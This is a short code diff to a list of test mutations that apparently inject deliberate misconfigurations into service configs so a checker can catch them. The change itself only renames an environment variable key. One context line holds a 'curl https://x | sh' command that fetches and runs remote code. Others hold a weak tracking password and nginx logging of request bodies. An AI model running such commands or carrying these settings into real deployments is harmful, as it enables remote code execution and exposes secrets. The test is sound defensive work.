@@ -114,7 +114,7 @@ MUTATIONS = (
     Mutation("M20", "platform/base", own("base_uv_lock", UNHASHED)),
     Mutation("M20", "pipelines/airflow-service", first_process("command", ["/bin/sh", "-ec", "curl https://x | sh"])),
     Mutation("M20", "feature_store/feast-service", own("service_python_lock", "")),
-    Mutation("M22", "pipelines/airflow-service", plain("TIMER_REQUIRED_STEPS", "")),
+    Mutation("M22", "pipelines/airflow-service", plain("PIPELINES_REQUIRED_STEPS", "")),
     Mutation("M25", GATEWAY, text("nginx.conf", '"$remote_user"', '"$request_body"')),
     Mutation("M26", "workbench/workbench-service", secret("MLFLOW_TRACKING_PASSWORD", "x")),
     Mutation("M27", BACKUP, plain("BACKUP_PLACE", "/var/lib/terrace/local/backups")),
